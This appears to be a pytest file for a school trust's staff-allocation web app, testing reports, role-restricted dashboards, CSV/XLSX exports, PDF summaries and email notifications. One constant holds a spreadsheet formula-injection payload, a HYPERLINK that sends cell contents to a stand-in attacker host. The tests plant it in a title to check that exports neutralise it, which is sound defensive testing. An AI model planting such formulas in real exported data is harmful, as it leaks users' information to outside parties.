"""Dashboards, the allocations export, deployment summaries and allocation notifications, on a small trust."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from app.extensions import db
from app.formatting import long_date
from app.models import (
    Allocation,
    AllocationStatus,
    Area,
    Funding,
    OutboxMessage,
    Phase,
    RequestStatus,
    Role,
    SupportRequest,
    TagKind,
    User,
)
from app.models.types import utcnow
from app.services import allocation, notify, reports
from app.terms import AcademicYear, current
from tests import factories
from tests.conftest import Browser

YEAR, TERM = current()
PERIOD = {"year": YEAR.start, "term": TERM.value}
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def tags(*areas, phases=("primary",)):
    return {TagKind.AREA: list(areas), TagKind.PHASE: list(phases)}


@pytest.fixture
def trust(app):
    """Oakfield asks for help in three areas; Fellside releases Amira (phonics) and Tom (SEND).

    Amira offers 6 days this term and is committed for 4; Tom offers 4 and is committed for 3 (charged £750
    against Oakfield's £500 budget). Nobody offers Early Years, and the latest run left that request unmet."""
    with app.app_context():
        oak = factories.school(name="Oakfield Primary", latitude=54.19, longitude=-3.09)
        fell = factories.school(name="Fellside Primary", latitude=54.23, longitude=-3.05)
        ceo = factories.user(role=Role.CEO, name="Dr Helen Marsh")
        head_oak = factories.user(role=Role.HEADTEACHER, school=oak, name="James Whitfield")
        head_fell = factories.user(role=Role.HEADTEACHER, school=fell, name="Amina Begum")
        supporter = factories.user(role=Role.SCHOOL_STAFF, school=fell, name="Amira Khan")
        amira = factories.register_entry(fell, days=(6, 2, 1), name="Amira Khan", email="amira@fellside.example",
                                         post="Early reading lead", user_id=supporter.id,
                                         tags=tags("Curriculum and Teaching"), day_rate=250.0)
        tom = factories.register_entry(fell, days=(4, 0, 0), name="Tom Reid", email="tom@fellside.example",
                                       tags=tags("Inclusion"), day_rate=250.0)
        phonics = factories.support_request(oak, status=RequestStatus.MATCHED, title="Phonics coaching for Year 1",
                                            preferred_dates="Tuesdays after October half term")
        send = factories.support_request(oak, status=RequestStatus.MATCHED, title="SEND support plans",
                                         area=Area.INCLUSION, days_requested=Decimal("6"),
                                         funding=Funding.SECOND_TIER, budget_gbp=Decimal("500"))
        early = factories.support_request(oak, status=RequestStatus.ACCEPTED, title="Nursery provision review",
                                          area=Area.EARLY_YEARS, days_requested=Decimal("3"))
        factories.support_request(oak, status=RequestStatus.DRAFT, title="A draft", area=Area.EARLY_YEARS,
                                  days_requested=Decimal("9"))
        run = factories.allocation_run(unmet=[early.id], created_by=ceo)
        a1 = factories.allocation(phonics, amira, AllocationStatus.APPROVED, run=run, decided_by=ceo)
        a2 = factories.allocation(send, tom, AllocationStatus.ACCEPTED, run=run, days=3, decided_by=ceo)
        a3 = factories.allocation(early, tom, AllocationStatus.REJECTED, run=run, days=1, decided_by=ceo)
        factories.visit(oak)
        return dict(oak=oak.id, fell=fell.id, ceo=ceo.id, head_oak=head_oak.id, head_fell=head_fell.id,
                    supporter=supporter.id, amira=amira.id, tom=tom.id, phonics=phonics.id, send=send.id,
                    early=early.id, run=run.id, a1=a1.id, a2=a2.id, a3=a3.id)


# --- the numbers ------------------------------------------------------------------------------------------------


def test_supply_against_demand_bands(app, trust):
    with app.app_context():
        data = reports.supply_demand(YEAR, TERM)
    assert data.phases == [Phase.PRIMARY]
    cell = data.cells
    assert (cell[(Area.CURRICULUM, Phase.PRIMARY)].offered, cell[(Area.CURRICULUM, Phase.PRIMARY)].requested) == (6, 4)
    assert cell[(Area.CURRICULUM, Phase.PRIMARY)].band == "covered"
    assert cell[(Area.INCLUSION, Phase.PRIMARY)].band == "tight"       # 4 offered of 6: at least half
    assert cell[(Area.EARLY_YEARS, Phase.PRIMARY)].band == "short"     # 0 of 3 (the draft's 9 do not count)
    assert cell[(Area.EARLY_YEARS, Phase.PRIMARY)].requested == 3
    assert cell[(Area.LEADERSHIP, Phase.PRIMARY)].band == "none"
    assert data.by_area[Area.INCLUSION].gap == 2


@pytest.mark.parametrize(("offered", "requested", "expected"), [
    (0, 0, "none"), (2, 0, "spare"), (0, 1, "short"), (1.9, 4, "short"), (2, 4, "tight"), (4, 4, "covered")])
def test_band_edges(offered, requested, expected):
    assert reports.band(offered, requested) == expected


def test_capacity_and_cost(app, trust):
    with app.app_context():
        people, schools = reports.capacity(YEAR, TERM)
        costs = reports.costs(YEAR, TERM)
    assert [(p.label, p.committed, p.offered) for p in people] == [("Tom Reid", 3, 4), ("Amira Khan", 4, 6)]
    assert [(s.label, s.committed, s.offered) for s in schools] == [("Fellside Primary", 7, 10)]
    assert len(costs) == 1
    oak = costs[0]
    assert (oak.school, oak.charged, oak.core, oak.budget, oak.status) == \
        ("Oakfield Primary", 750, 1000, 500, "Over budget")


def test_unmet_demand(app, trust):
    with app.app_context():
        left = reports.unmet(YEAR, TERM)
        assert [u.request.id for u in left.requests] == [trust["early"]]
        assert left.requests[0].reason == "Nobody suitable has days left."
        assert left.by_area[Area.EARLY_YEARS] == (1, 3.0)
        assert left.by_area[Area.CURRICULUM] == (0, 0.0)  # approved: met; the rejected proposal did not meet it


def test_unmet_includes_accepted_requests_with_no_run(app, trust):
    with app.app_context():
        oak = db.session.get(factories.School, trust["oak"])
        late = factories.support_request(oak, status=RequestStatus.ACCEPTED, title="Attendance strategy",
                                         area=Area.ATTENDANCE, days_requested=Decimal("2"))
        left = reports.unmet(YEAR, TERM)
        assert {u.request.id for u in left.requests} == {trust["early"], late.id}
        assert next(u for u in left.requests if u.request.id == late.id).reason.startswith("Accepted")


# --- the page -----------------------------------------------------------------------------------------------------


def test_dashboard_for_the_ceo(app, trust, login_as):
    browser, _ = login_as(Role.CEO)
    response = browser.get("/reports/")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert f"Reports: {TERM.label} {YEAR.label}" in html
    assert html.count("<svg class=\"chart") == 6  # heat map, two capacity, cost, unmet, visits
    assert "<title id=\"heat-title\">Supply against demand" in html and "<desc id=\"heat-desc\">" in html
    assert "Short" in html and "0 offered, 3 asked" in html and "Tight" in html
    assert "Amira Khan" in html and "4 of 6 days" in html  # per supporter, for the CEO
    assert "7 of 10 days (70%)" in html
    assert "£750 of £500 · Over budget" in html
    assert "Nursery provision review" in html
    assert " style=" not in html and "<script>" not in html and "<script " not in html.replace(
        '<script src="/bootstrap', "")
    assert "/reports/allocations.csv" in html


def test_reports_menu_item(app, trust, login_as):
    browser, _ = login_as(Role.EXECUTIVE)
    html = browser.get("/").get_data(as_text=True)
    assert 'href="/reports/"' in html


def test_trustees_see_aggregates_only(app, trust, login_as):
    browser, _ = login_as(Role.TRUSTEE)
    html = browser.get("/reports/").get_data(as_text=True)
    assert "Fellside Primary" in html and "Early Years" in html
    assert "Amira Khan" not in html and "Tom Reid" not in html
    assert "Nursery provision review" not in html
    assert "/reports/allocations.csv" not in html
    assert browser.get("/reports/allocations.csv").status_code == 403


@pytest.mark.parametrize("role", [Role.HEADTEACHER, Role.SCHOOL_STAFF, Role.ADMIN])
def test_dashboard_is_for_trust_leaders_only(app, trust, login_as, role):
    browser, _ = login_as(role)
    assert browser.get("/reports/").status_code == 403
    assert browser.get("/reports/allocations.xlsx").status_code == 403


def test_choosing_another_term(app, trust, login_as):
    browser, _ = login_as(Role.CEO)
    html = browser.get(f"/reports/?year={YEAR.start - 1}&term=summer").get_data(as_text=True)
    assert f"Reports: Summer {AcademicYear(YEAR.start - 1).label}" in html
    assert "Amira Khan" not in html and "Nobody on the register offers days" in html
    assert f'<option selected value="{YEAR.start - 1}">' in html
    # Nonsense falls back to this term rather than failing.
    html = browser.get("/reports/?year=banana&term=winter").get_data(as_text=True)
    assert f"Reports: {TERM.label} {YEAR.label}" in html


# --- export -------------------------------------------------------------------------------------------------------


def _poison(app, trust):
    with app.app_context():
        db.session.get(SupportRequest, trust["phonics"]).title = INJECTION
        db.session.commit()


def test_export_csv_lists_approved_and_later_with_formulas_neutralised(app, trust, login_as):
    _poison(app, trust)
    browser, _ = login_as(Role.EXECUTIVE)
    response = browser.get("/reports/allocations.csv", query_string=PERIOD)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert [r["Supporter"] for r in rows] == ["Amira Khan", "Tom Reid"]  # the rejected one is left out
    first = rows[0]
    assert first["Request"] == "'" + INJECTION
    assert first["URN"] and first["School"] == "Oakfield Primary" and first["Area"] == "Curriculum and Teaching"
    assert first["Supporter's school"] == "Fellside Primary" and first["Days"] == "4.0"
    assert first["Term"] == f"{TERM.label} {YEAR.label}" and first["Cost (£)"] == "1000.0"
    assert first["Charged to the school"] == "No" and rows[1]["Charged to the school"] == "Yes"
    assert first["State"] == "Approved – awaiting release" and first["Approved by"] == "Dr Helen Marsh"
    assert first["Approved at"][:4].isdigit()
    assert list(rows[0]) == list(reports.EXPORT_HEADER)


def test_export_xlsx_neutralises_formulas(app, trust, login_as):
    _poison(app, trust)
    browser, _ = login_as(Role.CEO)
    response = browser.get("/reports/allocations.xlsx", query_string=PERIOD)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == list(reports.EXPORT_HEADER)
    cell = sheet.cell(row=2, column=3)
    assert cell.value == "'" + INJECTION and cell.data_type == "s"
    assert all(not (isinstance(v, str) and v.startswith("=")) for row in values for v in row)


def test_export_of_one_runs_proposals(app, trust, login_as):
    with app.app_context():
        oak = db.session.get(factories.School, trust["oak"])
        amira = db.session.get(Allocation, trust["a1"]).entry
        extra = factories.support_request(oak, status=RequestStatus.ACCEPTED, title="Reading fluency")
        run = factories.allocation_run()
        factories.allocation(extra, amira, run=run, days=1)
        run_id = run.id
    browser, _ = login_as(Role.CEO)
    rows = list(csv.DictReader(io.StringIO(browser.get(f"/reports/allocations.csv?run={run_id}").get_data()
                                           .decode("utf-8-sig"))))
    assert [(r["Request"], r["State"], r["Approved by"]) for r in rows] == [("Reading fluency", "Proposed", "")]
    assert browser.get("/reports/allocations.csv?run=999999").status_code == 404
    assert browser.get("/reports/allocations.pdf").status_code in (400, 404)


def test_review_page_links_to_exports_and_summaries(app, trust, login_as):
    browser, _ = login_as(Role.CEO)
    html = browser.get(f"/allocations/runs/{trust['run']}/review").get_data(as_text=True)
    assert f"/reports/allocations.csv?run={trust['run']}" in html
    assert f"/reports/allocations.xlsx?run={trust['run']}" in html
    assert f"/allocations/{trust['a1']}/summary.pdf" in html
    assert f"/allocations/{trust['a3']}/summary.pdf" not in html  # rejected: nothing to summarise
    assert " style=" not in html


# --- deployment summary ---------------------------------------------------------------------------------------------


def _pdf_text(response) -> str:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/pdf"
    reader = PdfReader(io.BytesIO(response.get_data()))
    assert len(reader.pages) == 1
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


def _as(app, user_id):
    with app.app_context():
        email = db.session.get(User, user_id).email
    browser = Browser(app.test_client())
    assert browser.login(email, factories.PASSWORD).status_code == 302
    return browser


def test_summary_pdf_says_everything(app, trust):
    text = _pdf_text(_as(app, trust["ceo"]).get(f"/allocations/{trust['a1']}/summary.pdf"))
    with app.app_context():
        request = db.session.get(SupportRequest, trust["phonics"])
        target = long_date(request.target_date)
        success = " ".join(request.priority.success_criteria.split()[:4])
    for expected in ("Fellside Learning Trust", "Deployment summary", "Amira Khan", "Early reading lead",
                     "Fellside Primary", "Amina Begum", "Oakfield Primary", "James Whitfield",
                     "Phonics coaching for Year 1", "Curriculum and Teaching", "PSC pass rate dropped",
                     "85% pass the PSC", success, target, "4 days in", f"{TERM.label} {YEAR.label}", "£1,000",
                     "Core support: paid by the trust", "About 4 km", "Tuesdays after October half term",
                     "Dr Helen Marsh", "Waiting for the supporter's headteacher"):
        assert expected in text, expected


def test_summary_pdf_of_charged_and_accepted_support(app, trust):
    with app.app_context():
        a2 = db.session.get(Allocation, trust["a2"])
        a2.released_by_id = trust["head_fell"]
        a2.released_at = a2.accepted_at = utcnow()
        db.session.commit()
    text = _pdf_text(_as(app, trust["head_oak"]).get(f"/allocations/{trust['a2']}/summary.pdf"))
    assert "Charged to Oakfield Primary" in text and "£750" in text
    assert "Released by Amina Begum" in text and "Accepted by the supporter" in text


@pytest.mark.parametrize("who", ["ceo", "head_oak", "head_fell", "supporter", "executive"])
def test_summary_pdf_is_for_the_people_involved(app, trust, who):
    if who == "executive":
        with app.app_context():
            user_id = factories.user(role=Role.EXECUTIVE).id
    else:
        user_id = trust[who]
    assert _as(app, user_id).get(f"/allocations/{trust['a1']}/summary.pdf").status_code == 200


@pytest.mark.parametrize("role", [Role.HEADTEACHER, Role.SCHOOL_STAFF, Role.TRUSTEE, Role.ADMIN])
def test_summary_pdf_refuses_everyone_else(app, trust, role):
    with app.app_context():
        school = factories.school() if role in (Role.HEADTEACHER, Role.SCHOOL_STAFF) else None
        user_id = factories.user(role=role, school=school).id
    assert _as(app, user_id).get(f"/allocations/{trust['a1']}/summary.pdf").status_code == 403


def test_summary_pdf_refuses_staff_of_the_schools_who_are_not_the_supporter(app, trust):
    with app.app_context():
        oak = db.session.get(factories.School, trust["oak"])
        fell = db.session.get(factories.School, trust["fell"])
        ids = [factories.user(role=Role.SCHOOL_STAFF, school=oak).id,
               factories.user(role=Role.SCHOOL_STAFF, school=fell).id]
    for user_id in ids:
        assert _as(app, user_id).get(f"/allocations/{trust['a1']}/summary.pdf").status_code == 403


def test_no_summary_before_approval(app, trust):
    browser = _as(app, trust["ceo"])
    assert browser.get(f"/allocations/{trust['a3']}/summary.pdf").status_code == 404  # rejected
    assert browser.get("/allocations/999999/summary.pdf").status_code == 404


def test_supporter_sees_the_summary_link(app, trust):
    html = _as(app, trust["supporter"]).get("/allocations/mine").get_data(as_text=True)
    assert f"/allocations/{trust['a1']}/summary.pdf" in html
    html = _as(app, trust["head_fell"]).get("/allocations/releases").get_data(as_text=True)
    assert f"/allocations/{trust['a1']}/summary.pdf" in html


# --- notifications ----------------------------------------------------------------------------------------------------


def test_notifications_reach_both_headteachers_and_the_supporter(app, trust):
    """Approval tells the requesting school's head, the supporter's head and the supporter; release tells the
    supporter; acceptance tells the requesting school's head. Delivery sends each one."""
    with app.app_context():
        oak = db.session.get(factories.School, trust["oak"])
        amira = db.session.get(Allocation, trust["a1"]).entry
        req = factories.support_request(oak, status=RequestStatus.ACCEPTED, title="Reading fluency in Year 2",
                                        days_requested=Decimal("2"))
        proposed = factories.allocation(req, amira, days=2)
        db.session.query(OutboxMessage).delete()
        db.session.commit()
        ceo, head_oak, head_fell, supporter = (db.session.get(User, trust[k]) for k in
                                               ("ceo", "head_oak", "head_fell", "supporter"))
        emails = dict(oak=head_oak.email, fell=head_fell.email)

        def sent():
            return [(m.to, m.subject) for m in db.session.scalars(db.select(OutboxMessage)
                                                                   .order_by(OutboxMessage.id))]

        outcome = allocation.approve(ceo, [proposed.id])
        assert [a.id for a in outcome.approved] == [proposed.id]
        assert sent() == [(emails["oak"], "Support approved for your school"),
                          (emails["fell"], "Please confirm you can release a member of staff"),
                          ("amira@fellside.example", "You have been matched to support a school")]
        body = db.session.scalar(db.select(OutboxMessage.body).where(OutboxMessage.to == emails["fell"]))
        assert "Amira Khan" in body and "Reading fluency in Year 2" in body and "2 days" in body

        allocation.release(head_fell, proposed.id, agree=True)
        assert sent()[-1] == ("amira@fellside.example", "Please accept your support assignment")
        allocation.accept(supporter, proposed.id)
        assert sent()[-1] == (emails["oak"], "Your support is confirmed")
        assert len(sent()) == 5

        notify.clear_memory()
        assert notify.deliver_pending() == (5, 0)
        assert sorted({m["To"] for m in notify.MEMORY}) == sorted({emails["oak"], emails["fell"],
                                                                   "amira@fellside.example"})
        notify.clear_memory()


def test_declined_release_tells_the_ceo_not_the_supporter(app, trust):
    with app.app_context():
        oak = db.session.get(factories.School, trust["oak"])
        amira = db.session.get(Allocation, trust["a1"]).entry
        req = factories.support_request(oak, status=RequestStatus.ACCEPTED, title="Reading fluency in Year 2",
                                        days_requested=Decimal("2"))
        proposed = factories.allocation(req, amira, days=2)
        ceo, head_fell = db.session.get(User, trust["ceo"]), db.session.get(User, trust["head_fell"])
        allocation.approve(ceo, [proposed.id])
        db.session.query(OutboxMessage).delete()
        db.session.commit()
        allocation.release(head_fell, proposed.id, agree=False, reason="Year 6 SATs mocks that week")
        messages = list(db.session.scalars(db.select(OutboxMessage)))
        assert [(m.to, m.subject) for m in messages] == [(ceo.email, "A headteacher could not release a supporter")]
        assert "Year 6 SATs mocks that week" in messages[0].body


def test_summary_stays_on_one_page_with_the_longest_texts(app, trust):
    with app.app_context():
        request = db.session.get(SupportRequest, trust["phonics"])
        request.need = "Pupils in Year 1 cannot blend. " * 129  # 4,000 characters, the most the template takes
        request.desired_outcomes = "Every pupil reads fluently. " * 71
        request.priority.success_criteria = "85% pass the check. " * 100
        request.title = "Phonics " * 25
        request.preferred_dates = "Tuesdays " * 33
        db.session.commit()
    text = _pdf_text(_as(app, trust["ceo"]).get(f"/allocations/{trust['a1']}/summary.pdf"))  # asserts one page
    assert "…" in text and "Waiting for the supporter's headteacher" in text
